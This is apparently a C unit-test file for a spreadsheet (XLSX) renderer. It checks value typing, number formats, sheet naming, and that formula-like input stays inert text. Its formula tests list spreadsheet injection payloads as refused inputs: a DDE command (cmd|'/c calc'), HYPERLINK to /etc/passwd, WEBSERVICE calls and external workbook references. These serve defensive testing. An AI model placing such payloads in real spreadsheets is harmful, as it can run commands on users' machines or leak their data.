/* Workbooks: what each form of the source becomes. */
#include "office_reader.h"

#include "artifacts/xlsx.h"

extern const struct renderer_ops render_xlsx;

static struct made render(const char *source, const char *options)
{
    struct made m;
    struct render_params params = {
        .format = "xlsx", .title = "", .made_at = 1790000000, .options = span_str(options)};
    render_into(&render_xlsx, span_str(source), &params, &m);
    return m;
}

static struct made good(const char *source)
{
    struct made m = render(source, "");
    if (m.status != RENDER_OK)
        print_message("%s\n", m.sentence);
    assert_int_equal(m.status, RENDER_OK);
    return m;
}

#define SHEET "xl/worksheets/sheet1.xml"

static void what_looks_like_a_formula_is_text(void **state)
{
    (void)state;
    struct made m = good("a,b\n=HYPERLINK(\"http://h.test\"),2\n");
    const char *sheet = part(&m, SHEET);
    assert_holds(sheet, "<c r=\"B2\"><v>2</v></c>");
    assert_lacks(sheet, "<f");
    assert_holds(sheet, "<autoFilter ref=\"A1:B2\"/>");
    assert_holds(sheet, "state=\"frozen\"");
    assert_holds(part(&m, "xl/sharedStrings.xml"), "=HYPERLINK(&quot;http://h.test&quot;)");
    assert_memory_equal(buf_span(&m.bytes).p + 30, "[Content_Types].xml", 19);
    made_free(&m);
    /* Its commas are no new cells. */
    m = good("a,b\n=HYPERLINK(\"http://h.test\",\"x\"),2\n");
    assert_holds(part(&m, SHEET), "<c r=\"B2\"><v>2</v></c>");
    made_free(&m);
    /* In JSON too, unless an object says formula. */
    m = good("{\"rows\":[[\"=1+1\",2]]}");
    assert_lacks(part(&m, SHEET), "<f");
    made_free(&m);
}

/* One value in a column of its own: the cell A2. */
static void values_have_types(void **state)
{
    (void)state;
    static const struct {
        const char *text, *cell, *format; /* NULL: none */
    } cases[] = {
        {"12", "><v>12</v>", NULL},
        {"-0.5", "><v>-0.5</v>", "0.0"},
        {"1e3", "><v>1e3</v>", NULL},
        {"007", " t=\"s\">", "@"},
        {"1234567890123456", " t=\"s\">", "@"},
        {"12.4%", "><v>0.124</v>", "0.0%"},
        {"+5%", "><v>0.05</v>", "+0%;-0%;0%"},
        {"+491234567", " t=\"s\">", "@"},
        {"true", " t=\"b\"><v>1</v>", "&quot;TRUE&quot;;&quot;TRUE&quot;;&quot;FALSE&quot;"},
        {"FALSE", " t=\"b\"><v>0</v>", "&quot;TRUE&quot;;&quot;TRUE&quot;;&quot;FALSE&quot;"},
        {"2026-07-01", "><v>46204</v>", "yyyy-mm-dd"},
        {"1900-02-28", "><v>59</v>", "yyyy-mm-dd"},
        {"1900-03-01", "><v>61</v>", "yyyy-mm-dd"},
        {"2026-02-29", " t=\"s\">", NULL},
        {"1899-12-31", " t=\"s\">", NULL},
        {"2026-07-01T12:00:00Z", "><v>46204.5</v>", "yyyy-mm-dd hh:mm"},
        {"2026-07-01 12:00:30", ".50034", "yyyy-mm-dd hh:mm:ss"},
        {"2026-07-01T25:00", " t=\"s\">", NULL},
        {"\"1,234.50\"", "><v>1234.5</v>", "#,##0.00"},
        {"\"12,34\"", " t=\"s\">", NULL},
        {"$5", "><v>5</v>", "&quot;$&quot;#,##0"},
        {"3.20 \xe2\x82\xac", "><v>3.2</v>", "#,##0.00&quot; \xe2\x82\xac&quot;"},
        {"1.2.3", " t=\"s\">", NULL},
        {"=A1", " t=\"s\">", NULL},
        {"12 apples", " t=\"s\">", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char source[128];
        snprintf(source, sizeof source, "head\n%s\n", cases[i].text);
        struct made m = good(source);
        const char *cell = strstr(part(&m, SHEET), "<c r=\"A2\"");
        assert_non_null(cell);
        if (!strstr(cell, cases[i].cell))
            print_message("%s: %.80s\n", cases[i].text, cell);
        assert_non_null(strstr(cell, cases[i].cell));
        char format[128];
        snprintf(format, sizeof format, "formatCode=\"%s\"", cases[i].format ? cases[i].format : "");
        const char *styles = part(&m, "xl/styles.xml");
        if (cases[i].format && !strstr(styles, format))
            print_message("%s: %s\n", cases[i].text, styles);
        assert_int_equal(strstr(styles, cases[i].format ? format : "<numFmt ") != NULL,
                         cases[i].format != NULL);
        made_free(&m);
    }
}

static void a_column_is_of_one_kind(void **state)
{
    (void)state;
    struct made m = good("code,n,mixed\n007,1,a1\n120,n/a,2\n12,3,b4\n");
    const char *sheet = part(&m, SHEET);
    assert_holds(sheet, "<c r=\"A3\" s=\"2\" t=\"s\">");
    assert_holds(sheet, "<c r=\"B2\"><v>1</v>");
    assert_holds(sheet, "<c r=\"B3\" t=\"s\">");
    assert_holds(sheet, "<c r=\"B4\"><v>3</v>");
    assert_holds(sheet, "<c r=\"C3\" t=\"s\">");
    made_free(&m);
}

static void json_gives_sheets_columns_formulas(void **state)
{
    (void)state;
    struct made m =
        good("{\"sheets\":[{\"name\":\"A/B: 'q'\",\"columns\":[{\"header\":\"D\",\"type\":\"date\"},\"N\","
             "{\"header\":\"T\",\"format\":\"#,##0.00\"},{\"header\":\"S\",\"type\":\"text\"}],\"rows\":[["
             "\"2026-01-02\","
             "5,{\"formula\":\"=SUM(B2:B3)\",\"value\":7},12],[null,2,{\"formula\":\"WEBSERVICE(\\\"http://"
             "x\\\")\"}"
             ",\"x\"]]},{\"name\":\"a-b- 'Q\",\"rows\":[{\"k\":1},{\"l\":true,\"k\":2}]}]}");
    assert_string_equal(m.sentence,
                        "1 formula was kept as text: not well formed, or reaching out of the workbook");
    const char *sheet = part(&m, SHEET);
    assert_holds(sheet, "<f>SUM(B2:B3)</f><v>7</v>");
    assert_lacks(sheet, "WEBSERVICE");
    assert_holds(sheet, "<c r=\"D2\" t=\"s\">");
    assert_holds(part(&m, "xl/sharedStrings.xml"), "=WEBSERVICE");
    const char *book = part(&m, "xl/workbook.xml");
    assert_holds(book, "<sheet name=\"A-B- 'q\" sheetId=\"1\"");
    assert_holds(book, "<sheet name=\"a-b- 'Q (2)\" sheetId=\"2\"");
    assert_holds(book, "'A-B- ''q'!$A$1:$D$3");
    assert_holds(book, "fullCalcOnLoad");
    sheet = part(&m, "xl/worksheets/sheet2.xml");
    assert_holds(sheet, "<c r=\"A3\"><v>2</v></c><c r=\"B3\" s=\"4\" t=\"b\"><v>1</v></c>");
    made_free(&m);
    m = render("{\"rows\":[[1]]}", "{\"sheet\":\"Given\"}");
    assert_holds(part(&m, "xl/workbook.xml"), "name=\"Given\"");
    made_free(&m);
}

static void formulas_stay_within_the_workbook(void **state)
{
    (void)state;
    static const struct {
        const char *given, *made; /* NULL: refused */
    } cases[] = {
        {"SUM(A1:A3)", "SUM(A1:A3)"},
        {"sum(a1, 2)*-3%", "SUM(a1,2)*-3%"},
        {"'My sheet'!B2&\"a\"\"b\"", "'My sheet'!B2&\"a\"\"b\""},
        {"IF(A1>=1,,{1,2;3,-4})", "IF(A1>=1,,{1,2;3,-4})"},
        {"XLOOKUP(A1,B:B,C:C)", "_xlfn.XLOOKUP(A1,B:B,C:C)"},
        {"HYPERLINK(\"https://a.test\",\"t\")", "HYPERLINK(\"https://a.test\",\"t\")"},
        {"HYPERLINK(\"file:///etc/passwd\")", NULL},
        {"HYPERLINK(A1)", NULL},
        {"HYPERLINK(\"http://a.test/?\"&A1)", NULL},
        {"_xlfn._xlfn.WEBSERVICE(\"http://a.test\")", NULL},
        {"webservice(\"http://a.test\")", NULL},
        {"cmd|'/c calc'!A0", NULL},
        {"'[other.xlsx]S'!A1", NULL},
        {"[1]S!A1", NULL},
        {"Table1[x]", NULL},
        {"SUM(A1;B1)", NULL},
        {"SUM(A1", NULL},
        {"1+", NULL},
        {"\"open", NULL},
        {"A1 B1", NULL},
        {"", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct buf out;
        buf_init(&out, 1 << 16);
        bool ok = xlsx_formula(span_str(cases[i].given), &out);
        if (ok != (cases[i].made != NULL))
            print_message("%s\n", cases[i].given);
        assert_int_equal(ok, cases[i].made != NULL);
        if (ok)
            assert_string_equal(buf_cstr(&out), cases[i].made);
        buf_free(&out);
    }
    char deep[4096];
    memset(deep, '(', sizeof deep);
    struct buf out;
    buf_init(&out, 1 << 16);
    assert_false(xlsx_formula(span_of(deep, sizeof deep), &out));
    buf_free(&out);
}

static void number_formats_are_checked(void **state)
{
    (void)state;
    static const char *const good_ones[] = {"0.00",   "#,##0;[Red]-#,##0", "yyyy-mm-dd", "\"EUR\" 0", "0.0%",
                                            "[h]:mm", "General",           "@",          "0E+00"};
    static const char *const bad[] = {"",    "%Y-%m-%d", "\"open", "[Nice]0", "0;0;0;0;0",
                                      "EUR", "x",        "[$\"]0", "\\"};
    for (size_t i = 0; i < sizeof good_ones / sizeof good_ones[0]; i++)
        assert_true(xlsx_format_valid(span_str(good_ones[i])));
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        assert_false(xlsx_format_valid(span_str(bad[i])));
}

static void other_forms_are_read(void **state)
{
    (void)state;
    struct made m = good("=== One ===\nx;y\n\"a;b\";2\n\n=== Two ===\nu,v\n\"q \"\"r\"\"\",3\n");
    assert_holds(part(&m, "xl/workbook.xml"), "name=\"Two\"");
    assert_holds(part(&m, SHEET), "<c r=\"B2\"><v>2</v>");
    assert_holds(part(&m, "xl/sharedStrings.xml"), "<t>a;b</t>");
    assert_holds(part(&m, "xl/sharedStrings.xml"), "<t>q &quot;r&quot;</t>");
    made_free(&m);
    m = good("## First\n\n|a|b|\n|-|-:|\n|x \\| y|1|\n\n## Second\n\n| c |\n| --- |\n| **z** |\n");
    assert_holds(part(&m, "xl/workbook.xml"), "name=\"Second\"");
    assert_holds(part(&m, "xl/sharedStrings.xml"), "<t>x | y</t>");
    assert_holds(part(&m, "xl/sharedStrings.xml"), "<t>z</t>");
    made_free(&m);
    m = good("{'rows': [['a', 1,], ['b', 2]],} // done");
    assert_holds(part(&m, SHEET), "<c r=\"B1\"><v>1</v>");
    made_free(&m);
    m = good("[{\"a\":\"x\"}]");
    assert_holds(part(&m, SHEET), "r=\"A2\"");
    made_free(&m);
    m = good("[a],b\r\n1,2\r\n");
    assert_holds(part(&m, SHEET), "<c r=\"B2\"><v>2</v>");
    made_free(&m);
}

#define LINES "x\nx\nx\nx\nx\nx\nx\nx\nx\nx\n"

/* A row is as high as its lines, since not every program finds that out by itself. */
static void rows_are_high_enough(void **state)
{
    (void)state;
    struct made m = good("a,b\nshort,\"one\ntwo\nthree\"\n"
                         "this text has so many words that it is wider than the sixty characters that are a "
                         "column's most,x\nshort,x\n");
    const char *sheet = part(&m, SHEET);
    assert_holds(sheet, "<row r=\"2\" ht=\"45\" customHeight=\"1\">");
    assert_holds(sheet, "<row r=\"3\" ht=\"30\" customHeight=\"1\">");
    assert_holds(sheet, "<row r=\"4\">");
    made_free(&m);
    m = good("a\n\"" LINES LINES LINES LINES "\"\n");
    assert_holds(part(&m, SHEET), "<row r=\"2\" ht=\"409\" ");
    made_free(&m);
}

static void what_cannot_be_a_workbook_is_refused(void **state)
{
    (void)state;
    static const struct {
        const char *source, *sentence;
    } cases[] = {
        {"", "it is empty"},
        {" \n\n", "it is empty"},
        {"{\"rows\":[[1]", "it begins like JSON but is not valid JSON"},
        {"{\"a\":1}", "it has neither sheets nor rows"},
        {"{\"sheets\":[]}", "it has no rows"},
        {"{\"sheets\":[{\"rows\":3}]}", "the rows of a sheet are not a list"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct made m = render(cases[i].source, "");
        assert_int_equal(m.status, RENDER_INVALID);
        assert_string_equal(m.sentence, cases[i].sentence);
        made_free(&m);
    }
    struct buf wide;
    buf_init(&wide, 1 << 20);
    for (int i = 0; i < XLSX_COLUMNS + 1; i++)
        buf_addc(&wide, ',');
    struct made m = render(buf_cstr(&wide), "");
    assert_int_equal(m.status, RENDER_LIMIT);
    made_free(&m);
    buf_reset(&wide);
    buf_adds(&wide, "a\n");
    for (int i = 0; i <= XLSX_CELL_UNITS; i++)
        buf_addc(&wide, 'x');
    m = render(buf_cstr(&wide), "");
    assert_int_equal(m.status, RENDER_LIMIT);
    assert_holds(m.sentence, "A2");
    made_free(&m);
    buf_free(&wide);
}

static void bytes_of_any_kind_make_good_xml(void **state)
{
    (void)state;
    struct made m = good("a\x01<b>&\"c\xff\xef\xbf\xbe,_x0041_\n");
    const char *strings = part(&m, "xl/sharedStrings.xml");
    assert_holds(strings, "<t>a&lt;b&gt;&amp;&quot;c\xef\xbf\xbd</t>");
    assert_holds(strings, "<t>_x005F_x0041_</t>");
    made_free(&m);
}

static void the_same_source_gives_the_same_bytes(void **state)
{
    (void)state;
    struct made a = good("a,b\n1,2026-01-01\nx,y\n"), b = good("a,b\n1,2026-01-01\nx,y\n");
    assert_int_equal(a.bytes.n, b.bytes.n);
    assert_memory_equal(buf_span(&a.bytes).p, buf_span(&b.bytes).p, a.bytes.n);
    made_free(&a);
    made_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_looks_like_a_formula_is_text),
        cmocka_unit_test(values_have_types),
        cmocka_unit_test(a_column_is_of_one_kind),
        cmocka_unit_test(json_gives_sheets_columns_formulas),
        cmocka_unit_test(formulas_stay_within_the_workbook),
        cmocka_unit_test(number_formats_are_checked),
        cmocka_unit_test(other_forms_are_read),
        cmocka_unit_test(rows_are_high_enough),
        cmocka_unit_test(what_cannot_be_a_workbook_is_refused),
        cmocka_unit_test(bytes_of_any_kind_make_good_xml),
        cmocka_unit_test(the_same_source_gives_the_same_bytes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
